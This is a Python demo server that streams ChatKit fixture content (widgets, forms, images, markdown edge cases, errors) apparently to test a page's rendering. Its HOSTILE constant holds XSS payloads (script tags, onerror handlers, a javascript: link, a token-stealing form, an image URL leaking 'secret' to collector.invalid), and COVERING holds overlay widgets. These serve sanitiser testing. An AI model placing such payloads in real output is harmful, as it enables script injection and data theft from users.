"""The example assistant, which on a message `show <what>` sends what the page must be able to draw."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from datetime import datetime
from typing import Any

from agents.models.fake_id import FAKE_RESPONSES_ID
from chatkit.actions import Action
from chatkit.errors import CustomStreamError
from chatkit.types import (
    Annotation,
    AssistantMessageContent,
    AssistantMessageContentPartTextDelta,
    AssistantMessageItem,
    ClientEffectEvent,
    ClientToolCallItem,
    ClosedStatus,
    CustomSummary,
    CustomTask,
    EntitySource,
    FileSource,
    GeneratedImage,
    GeneratedImageItem,
    NoticeEvent,
    ProgressUpdateEvent,
    SearchTask,
    StructuredInputFreeform,
    StructuredInputItem,
    StructuredInputMultipleChoice,
    StructuredInputMultipleChoiceOption,
    SyncCustomActionResponse,
    ThreadItemAddedEvent,
    ThreadItemDoneEvent,
    ThreadItemReplacedEvent,
    ThreadItemUpdatedEvent,
    ThreadMetadata,
    ThreadStreamEvent,
    URLSource,
    UserMessageItem,
    WidgetItem,
    Workflow,
    WorkflowItem,
    WorkflowTaskUpdated,
)
from chatkit.widgets import DynamicWidgetRoot

from relaykit.examples.assistant import AssistantServer
from relaykit.shared.identity import RequestContext

PIXEL = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

HOSTILE = """<img src=x onerror="window.pwned = 1"><script>window.pwned = 1</script>
<style>body { display: none }</style><form action="/steal"><input name="token"></form>

[click](javascript:window.pwned=1) and ![leak](https://collector.invalid/?said=secret)

<a href="data:text/html,<script>1</script>" onclick="window.pwned = 1" style="position:fixed">raw</a>
"""

FORM = {
    "type": "Card",
    "asForm": True,
    "confirm": {"label": "Book", "action": {"type": "book", "payload": {"room": "blue"}}},
    "cancel": {"label": "Leave", "action": {"type": "leave", "streaming": False}},
    "children": [
        {
            "type": "Row",
            "children": [
                {"type": "Icon", "name": "calendar"},
                {"type": "Title", "value": "Book the room"},
                {"type": "Spacer"},
                {"type": "Badge", "label": "free", "color": "success"},
            ],
        },
        {"type": "Caption", "value": "Up to eight people"},
        {"type": "Divider"},
        {"type": "Label", "value": "Your name", "fieldName": "guest.name"},
        {"type": "Input", "name": "guest.name", "required": True},
        {
            "type": "Select",
            "name": "hour",
            "placeholder": "Hour",
            "options": [{"value": "9", "label": "9:00"}, {"value": "10", "label": "10:00"}],
        },
        {"type": "Checkbox", "name": "coffee", "label": "With coffee", "defaultChecked": True},
        {"type": "Markdown", "value": "Rooms are **locked** at night."},
        {"type": "Image", "src": PIXEL, "alt": "A red dot", "size": 24},
        {"type": "Hologram", "label": "Something from a later version"},
    ],
}

LIST = {
    "type": "ListView",
    "limit": 2,
    "children": [
        {
            "type": "ListViewItem",
            "onClickAction": {"type": "choose", "payload": {"number": number}},
            "children": [{"type": "Text", "value": f"Choice {number}"}],
        }
        for number in range(1, 5)
    ],
}


KINDS = {
    "type": "Card",
    "size": "lg",
    "status": {"text": "Three rooms", "icon": "map-pin"},
    "children": [
        {
            "type": "Table",
            "children": [
                {
                    "type": "Table.Row",
                    "header": True,
                    "children": [{"type": "Table.Cell", "children": [{"type": "Text", "value": "Room"}]}],
                },
                {
                    "type": "Table.Row",
                    "children": [{"type": "Table.Cell", "children": [{"type": "Text", "value": "Blue"}]}],
                },
            ],
        },
        {
            "type": "Chart",
            "data": [{"day": "Mon", "guests": 4}, {"day": "Tue", "guests": 9}],
            "series": [{"type": "bar", "dataKey": "guests", "label": "Guests"}],
            "xAxis": "day",
        },
        {
            "type": "Form",
            "onSubmitAction": {"type": "book"},
            "children": [
                {"type": "DatePicker", "name": "day", "defaultValue": "2026-03-01T00:00:00Z"},
                {"type": "RadioGroup", "name": "size", "options": [{"value": "s", "label": "Small"}]},
                {"type": "Textarea", "name": "note", "placeholder": "A note"},
                {"type": "Button", "label": "Take it", "submit": True, "style": "primary"},
            ],
        },
    ],
}

CONTROLS = {
    "type": "Card",
    "children": [
        {
            "type": "Form",
            "onSubmitAction": {"type": "book"},
            "children": [
                {"type": "Label", "value": "Arrival", "fieldName": "arrival"},
                {
                    "type": "DatePicker",
                    "name": "arrival",
                    "placeholder": "When?",
                    "defaultValue": "2026-03-31",
                    "min": "2026-03-02",
                    "max": "2026-12-31",
                    "side": "top",
                    "align": "end",
                    "clearable": True,
                },
                {"type": "DatePicker", "name": "departure", "placeholder": "Until when?"},
                {
                    "type": "Select",
                    "name": "city",
                    "placeholder": "City",
                    "searchable": True,
                    "clearable": True,
                    "options": [
                        {"value": city[:1].lower(), "label": city} for city in ("Berlin", "Cork", "Lisbon")
                    ],
                },
                {"type": "Input", "name": "code", "defaultValue": "fixed", "disabled": True},
                {"type": "Button", "label": "Take it", "submit": True},
            ],
        },
        {"type": "Chart", "data": [], "series": [{"type": "bar", "dataKey": "guests"}], "xAxis": "day"},
        {"type": "Image", "src": PIXEL, "alt": "A dot", "width": 80, "height": 20},
    ],
}

TOO_DEEP = (
    "> " * 3_000 + "quoted",
    "1. " * 10_000 + "numbered",
    "*a_" * 10_000 + " emphasised",
    "*a " * 5_000 + "x" + " a*" * 5_000,
)


MIXED = """- مرحبا بالعالم
- شكرا

1. first
2. second

> سلام

| left | middle | right |
|------|:------:|------:|
| a    | b      | 1.50  |
"""


def shop_of(loading: Sequence[str], state: str) -> dict[str, Any]:
    """A card with a button for each `loadingBehavior`."""
    buttons = [
        {
            "type": "Button",
            "label": f"Order {each}",
            "onClickAction": {"type": "order", "payload": {"what": each}, "loadingBehavior": each},
        }
        for each in loading
    ]
    return {"type": "Card", "children": [{"type": "Caption", "value": state}, *buttons]}


def form_of(name: str) -> dict[str, Any]:
    """With a field of this name, and what is set on the form itself. The page's own code takes the action."""
    action = {"type": "submitted", "handler": "client", "payload": {"expected": name}}
    form = {
        "type": "Form",
        "padding": 2,
        "onSubmitAction": action,
        "children": [
            {"type": "Label", "value": f"Label of {name}", "fieldName": name},
            {"type": "Input", "name": name, "defaultValue": "given"},
            {"type": "Button", "label": "Submit", "submit": True},
        ],
    }
    return {"type": "Basic", "children": [form]}


EDGES = {"top": "-4000px", "bottom": "-4000px", "left": "-4000px", "right": "-4000px"}
COVERING = (
    {"type": "Basic", "children": [{"type": "Box", "margin": EDGES, "background": "red", "minHeight": 4000}]},
    {
        "type": "Basic",
        "children": [{"type": "Box", "width": "200vw", "height": "200vh", "margin": "-100vh -100vw"}],
    },
    {
        "type": "Card",
        "padding": "4000px",
        "children": [{"type": "Image", "src": PIXEL, "flush": True, "size": 4000}],
    },
    {
        "type": "Card",
        "padding": 2,
        "children": [{"type": "Row", "flex": "9 0 9000px", "margin": -900, "gap": 900}],
    },
)


class PageServer(AssistantServer):
    _failed: set[str] = set()

    async def respond(
        self, thread: ThreadMetadata, input_user_message: UserMessageItem | None, context: RequestContext
    ) -> AsyncIterator[ThreadStreamEvent]:
        call = None if input_user_message else await self._answered_call(thread, context)
        if call is not None:
            yield _Scene(self, thread, context).say(f"The page said `{str(call.output)[:100]}`")
            return
        words = _text(input_user_message).split()
        if words[:1] != ["show"] and not await self._answers_wait(thread, input_user_message, context):
            async for event in super().respond(thread, input_user_message, context):
                yield event
            return
        what = words[1] if words else "answers"
        async for event in getattr(self, f"_{what}")(_Scene(self, thread, context, words[2:])):
            yield event

    async def action(
        self,
        thread: ThreadMetadata,
        action: Action[str, Any],
        sender: WidgetItem | None,
        context: RequestContext,
    ) -> AsyncIterator[ThreadStreamEvent]:
        if action.type == "order" and sender is not None:
            async for event in self._order(_Scene(self, thread, context), sender):
                yield event
            return
        if action.type not in ("book", "choose"):
            async for event in super().action(thread, action, sender, context):
                yield event
            return
        yield _Scene(self, thread, context).say(f"Done: `{action.type}` with `{action.payload}`")

    async def sync_action(
        self,
        thread: ThreadMetadata,
        action: Action[str, Any],
        sender: WidgetItem | None,
        context: RequestContext,
    ) -> SyncCustomActionResponse:
        if action.type != "leave" or sender is None:
            return await super().sync_action(thread, action, sender, context)
        left = DynamicWidgetRoot.model_validate(
            {"type": "Card", "children": [{"type": "Text", "value": "You left the form."}]}
        )
        item = sender.model_copy(update={"widget": left})
        await self.store.save_item(thread.id, item, context)
        return SyncCustomActionResponse(updated_item=item)

    async def _answers_wait(
        self, thread: ThreadMetadata, message: UserMessageItem | None, context: RequestContext
    ) -> bool:
        """Whether the thread goes on from the answers to `show questions`."""
        if message is not None:
            return False
        newest = await self.store.load_thread_items(thread.id, None, 1, "desc", context)
        return any(
            isinstance(item, StructuredInputItem) and item.inputs[0].id == "drink" for item in newest.data
        )

    async def _answered_call(
        self, thread: ThreadMetadata, context: RequestContext
    ) -> ClientToolCallItem | None:
        """The call of `show tool`, where the thread goes on from its output; a message may wait behind that."""
        newest = await self.store.load_thread_items(thread.id, None, 20, "desc", context)
        answers = (ClientToolCallItem, StructuredInputItem)
        item = next((item for item in newest.data if isinstance(item, answers)), None)
        return item if isinstance(item, ClientToolCallItem) and item.name == "ask_page" else None

    async def _tool(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield ThreadItemDoneEvent(
            item=ClientToolCallItem(**scene.base("call"), call_id="call", name="ask_page", arguments={})
        )

    async def _latetool(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """Speaks until another message waits, and then asks the page."""
        yield scene.say("Let me look.")
        await self._another_message(scene)
        async for event in self._tool(scene):
            yield event

    async def _another_message(self, scene: _Scene) -> None:
        """Waits until the thread has a second message."""
        outside = replace(scene.context, run_id=None, attempt=None)
        while True:
            page = await self.store.load_thread_items(scene.thread.id, None, 20, "desc", outside)
            if sum(isinstance(item, UserMessageItem) for item in page.data) > 1:
                return
            await asyncio.sleep(0.05)

    async def _answers(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.say("Noted.")

    async def _same(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """A message for each word, all of them with the id that the agents SDK gives to what has none."""
        for word in scene.words:
            fields = {**scene.base("message"), "id": FAKE_RESPONSES_ID}
            content = [AssistantMessageContent(text="")]
            yield ThreadItemAddedEvent(item=AssistantMessageItem(**fields, content=content))
            for delta in (f"Said {word}", " to the end"):
                update = AssistantMessageContentPartTextDelta(content_index=0, delta=delta)
                yield ThreadItemUpdatedEvent(item_id=FAKE_RESPONSES_ID, update=update)
                await asyncio.sleep(0.05)
            content = [AssistantMessageContent(text=f"Said {word} to the end")]
            fields["created_at"] = datetime.now()
            yield ThreadItemDoneEvent(item=AssistantMessageItem(**fields, content=content))

    async def _hostile(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.say(HOSTILE)

    async def _form(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.widget(FORM)

    async def _mixed(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.say(MIXED)

    async def _shop(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """A button for each word: what it makes busy."""
        yield scene.widget(shop_of(scene.words, "open"))

    async def _order(self, scene: _Scene, sender: WidgetItem) -> AsyncIterator[ThreadStreamEvent]:
        """Draws the buttons anew, and is done when another message waits."""
        shop = sender.widget.model_dump(exclude_none=True)
        shop["children"][0]["value"] = "ordering"
        widget = DynamicWidgetRoot.model_validate(shop)
        yield ThreadItemReplacedEvent(item=sender.model_copy(update={"widget": widget}))
        await self._another_message(scene)
        yield scene.say("Ordered.")

    async def _deep(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        for text in TOO_DEEP:
            yield scene.say(text)
        yield scene.say("Behind all of it.")

    async def _forms(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """A form for each name that the message has."""
        for name in scene.words:
            yield scene.widget(form_of(name))
        yield scene.say("These are all.")

    async def _covering(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        for root in COVERING:
            yield scene.widget(root)
        yield scene.say("Behind the widgets.")

    async def _images(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """From the site's own origin, as data, from a host that the thread allows, and from one that it does not."""
        scene.thread.allowed_image_domains = ["Allowed.example"]
        for source in (
            "/demo/icon.svg",
            PIXEL,
            "https://allowed.example/%s.png",
            "https://refused.example/%s.png",
        ):
            at = [source.replace("%s", name) for name in ("image", "favicon", "generated", "markdown")]
            status = {"text": "With an icon", "favicon": at[1]}
            image = {"type": "Image", "src": at[0], "alt": f"Image of {source[:20]}", "size": 24}
            yield scene.widget({"type": "Card", "status": status, "children": [image]})
            item = GeneratedImageItem(**scene.base("image"), image=GeneratedImage(id="img", url=at[2]))
            yield ThreadItemDoneEvent(item=item)
            yield scene.say(f"![Markdown]({at[3]})")

    async def _list(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.widget(LIST)

    async def _effects(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield ClientEffectEvent(name="set_theme", data={"theme": "dark"})
        yield ClientEffectEvent(name="confetti", data={})
        yield scene.say("Applied.")
        await asyncio.sleep(1.5)

    async def _steps(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        search = SearchTask(title="Searched the web", queries=["rooms"], status_indicator="complete")
        tasks = [search, CustomTask(title="Compare", content="Two *rooms*", status_indicator="loading")]
        item = WorkflowItem(**scene.base("workflow"), workflow=Workflow(type="custom", tasks=tasks))
        yield ThreadItemAddedEvent(item=item)
        done = CustomTask(title="Compare", content="Two *rooms*", status_indicator="complete")
        yield ThreadItemUpdatedEvent(item_id=item.id, update=WorkflowTaskUpdated(task_index=1, task=done))
        item.workflow.tasks[1] = done
        item.workflow.summary = CustomSummary(title="Looked for a room")
        yield ThreadItemDoneEvent(item=item)
        source = URLSource(title="Room plan", url="https://example.org/rooms", attribution="example.org")
        yield scene.say("The blue one.", [Annotation(source=source, index=4)])

    async def _image(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        item = GeneratedImageItem(**scene.base("image"))
        yield ThreadItemAddedEvent(item=item)
        yield ThreadItemDoneEvent(item=item.model_copy(update={"image": GeneratedImage(id="img", url=PIXEL)}))

    async def _questions(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        options = [StructuredInputMultipleChoiceOption(value=value) for value in ("Tea", "Coffee")]
        drink = StructuredInputMultipleChoice(id="drink", question="What would you like?", options=options)
        note = StructuredInputFreeform(id="note", question="Anything else?", description="Allergies, say")
        yield ThreadItemDoneEvent(item=StructuredInputItem(**scene.base("questions"), inputs=[drink, note]))

    async def _kinds(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.widget(KINDS)

    async def _growing(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        field = {"type": "Textarea", "name": "note", "rows": 1, "autoResize": True, "maxRows": 8}
        yield scene.widget({"type": "Card", "children": [field]})

    async def _link(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.say("[Open the blue room](chatkit-link://room?name=blue)")

    async def _controls(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield scene.widget(CONTROLS)

    async def _sources(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """One of each kind."""
        sources = (
            URLSource(
                title="Room plan", url="https://example.org/rooms", description="Each room of the house"
            ),
            FileSource(title="The lease", filename="lease.pdf", description="Signed in March"),
            EntitySource(
                id="e1", title="Ada Lovelace", inline_label="Ada", icon="user", description="Countess"
            ),
        )
        yield scene.say("The blue one.", [Annotation(source=source, index=12) for source in sources])

    async def _own(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """A component of the site's own, with one of ChatKit's inside."""
        inner = {"type": "Text", "value": "inside"}
        own = {
            "type": "Map",
            "place": "Cork",
            "children": [inner],
            "legend": {"type": "Caption", "value": "legend"},
        }
        broken = {"type": "Broken", "value": "x"}
        yield scene.widget({"type": "Card", "children": [own, broken, {"type": "Text", "value": "behind"}]})

    async def _icons(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """An icon for each word."""
        children = [{"type": "Icon", "name": name} for name in scene.words]
        yield scene.widget({"type": "Card", "children": children})

    async def _progress(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield ProgressUpdateEvent(icon="search", text="Looking into the calendar")
        await asyncio.sleep(1.5)
        yield scene.say("Found.")

    async def _input(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """The message as the server has it."""
        page = await self.store.load_thread_items(scene.thread.id, None, 1, "desc", scene.context)
        message = page.data[0]
        assert isinstance(message, UserMessageItem)
        parts = [(part.type, part.text) for part in message.content]
        options = message.inference_options
        tool = options.tool_choice.id if options.tool_choice else None
        yield scene.say(f"`{parts} {message.quoted_text} {tool} {options.model}`")

    async def _notice(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        yield NoticeEvent(level="warning", title="Nearly full", message="You have **2** messages left.")
        yield scene.say("Noticed.")

    async def _failure(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        if scene.thread.id not in self._failed:
            self._failed.add(scene.thread.id)
            raise CustomStreamError("The model is out for lunch.", allow_retry=True)
        yield scene.say("Back from lunch.")

    async def _crash(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """An exception that nobody has foreseen: in the middle of a word, or with the word "early" before the first."""
        item = AssistantMessageItem(**scene.base("message"), content=[AssistantMessageContent(text="")])
        yield ThreadItemAddedEvent(item=item)
        if "early" not in scene.words:
            update = AssistantMessageContentPartTextDelta(content_index=0, delta="It begins well, and")
            yield ThreadItemUpdatedEvent(item_id=item.id, update=update)
        raise RuntimeError("for the log alone")

    async def _hold(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """Speaks, and goes on once the thread has another title."""
        item = AssistantMessageItem(**scene.base("message"), content=[AssistantMessageContent(text="")])
        yield ThreadItemAddedEvent(item=item)
        update = AssistantMessageContentPartTextDelta(content_index=0, delta="One moment.")
        yield ThreadItemUpdatedEvent(item_id=item.id, update=update)
        outside = replace(scene.context, run_id=None, attempt=None)
        while (await self.store.load_thread(scene.thread.id, outside)).title != "Go on":
            await asyncio.sleep(0.05)
        item.content[0].text = "One moment. Done."
        yield ThreadItemDoneEvent(item=item)

    async def _paragraphs(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        """Twelve of a whole screen and more, one after the other."""
        item = AssistantMessageItem(**scene.base("message"), content=[AssistantMessageContent(text="")])
        yield ThreadItemAddedEvent(item=item)
        for text in (f"**{number}.** {'Each word is written once. ' * 20}\n\n" for number in range(1, 13)):
            item.content[0].text += text
            update = AssistantMessageContentPartTextDelta(content_index=0, delta=text)
            yield ThreadItemUpdatedEvent(item_id=item.id, update=update)
            await asyncio.sleep(0.05)  # the page draws it
        yield ThreadItemDoneEvent(item=item)

    async def _closing(self, scene: _Scene) -> AsyncIterator[ThreadStreamEvent]:
        scene.thread.title = "A closed case"
        yield scene.say("Goodbye.")
        scene.thread.status = ClosedStatus(reason="This case is closed.")


class _Scene:
    """Makes items for one run."""

    def __init__(
        self, server: PageServer, thread: ThreadMetadata, context: RequestContext, words: Sequence[str] = ()
    ) -> None:
        self.server, self.thread, self.context = server, thread, context
        self.words = words
        """Of the message, behind the scene's name."""

    def base(self, name: str) -> dict[str, Any]:
        item_id = self.server.store.generate_item_id("message", self.thread, self.context)
        return {"id": f"{name}_{item_id}", "thread_id": self.thread.id, "created_at": datetime.now()}

    def say(self, text: str, annotations: list[Annotation] | None = None) -> ThreadItemDoneEvent:
        content = AssistantMessageContent(text=text, annotations=annotations or [])
        return ThreadItemDoneEvent(item=AssistantMessageItem(**self.base("message"), content=[content]))

    def widget(self, root: dict[str, Any]) -> ThreadItemDoneEvent:
        widget = DynamicWidgetRoot.model_validate(root)
        return ThreadItemDoneEvent(item=WidgetItem(**self.base("widget"), widget=widget))


def _text(message: UserMessageItem | None) -> str:
    return "".join(part.text for part in message.content) if message else ""
